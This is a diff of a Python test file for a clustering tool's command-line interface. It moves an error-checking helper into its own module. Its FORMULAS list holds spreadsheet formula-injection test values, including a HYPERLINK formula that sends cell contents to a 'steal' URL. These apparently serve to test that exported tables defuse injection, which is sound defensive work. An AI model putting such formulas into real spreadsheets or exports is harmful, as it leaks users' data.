@@ -14,6 +14,7 @@ from pathlib import Path
 import numpy as np
 import pandas as pd
 import pytest
+from error_lines import one_error_line
 from fake_models import write_fake_instance
 
 from nn_clustering import cli
@@ -24,13 +25,6 @@ openpyxl = pytest.importorskip("openpyxl")
 
 FORMULAS = ['=HYPERLINK("http://host/steal?d="&A1, "MNIST")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
 
-
-def one_error_line(capsys, code: int) -> str:
-    captured = capsys.readouterr()
-    assert code == 2, captured
-    assert captured.err.startswith("error: ") and captured.err.count("\n") == 1, captured.err
-    assert "Traceback" not in captured.err + captured.out
-    return captured.err
 
 
 # --------------------------------------------------------------------------- formulas in tables
